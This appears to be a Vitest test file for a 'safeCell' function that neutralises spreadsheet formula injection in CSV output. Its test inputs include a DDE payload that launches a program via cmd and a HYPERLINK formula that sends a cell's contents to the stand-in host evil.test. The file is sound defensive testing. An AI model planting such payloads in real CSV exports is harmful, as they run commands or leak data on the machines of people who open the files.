import { expect, it } from 'vitest';
import { safeCell } from '../src/csv-safe.ts';

// Red when: a beginning is left out of the ones that are taken for a formula, or only the first character is looked at.
it.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '  =cmd|" /C calc"!A0',
  '\uFEFF=1+1',
  '\uFF1D1+1',
  '|calc',
  '%0A=1',
  '=HYPERLINK("https://evil.test?"&A1,"pay")',
])('%j is written as text that no spreadsheet runs', (text) => {
  expect(safeCell(text)).toBe(`'${text}`);
});

it('numbers, names and sentences are written as they are', () => {
  for (const text of ['49.99', '-49.99', '0', 'Ann', 'a=b', 'one - two', 'ann@example.test', '']) {
    expect(safeCell(text)).toBe(text);
  }
  expect([safeCell(-12), safeCell(null), safeCell(true)]).toEqual(['-12', '', 'true']);
});
